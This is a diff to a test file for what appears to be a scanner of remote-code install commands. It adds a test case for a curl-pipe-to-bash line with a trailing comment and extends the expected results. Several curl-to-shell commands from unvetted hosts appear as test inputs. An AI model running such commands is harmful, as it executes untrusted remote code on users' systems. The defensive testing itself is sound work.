@@ -49,6 +49,8 @@ test('remote_code: any other host, a look-alike, a shortened address, a bare IP 
         '«curl -fsSL https://203.0.113.7/i.sh | sh»',
         '«curl -fsSL http://astral.sh/uv/install.sh | sh»',
         '«curl -fsSL "$INSTALLER_URL" | sh»',
+        // A comment after the shell is not a script it is given: the shell still runs the download.
+        '«curl -fsSL https://get.example-tools.dev/install.sh | bash»    # macOS / Linux',
       ].join('\n'),
     ),
   );
@@ -56,7 +58,7 @@ test('remote_code: any other host, a look-alike, a shortened address, a bare IP 
   expectNone(analysis, 'official_installer');
   assert.deepEqual(
     found.map((item) => /hides who serves it/.test(item.message)),
-    [false, false, false, true, true, true, false],
+    [false, false, false, true, true, true, false, false],
   );
   assert.equal(withCode(analysis, 'remote_code')[3].severity, 'warning');
 });
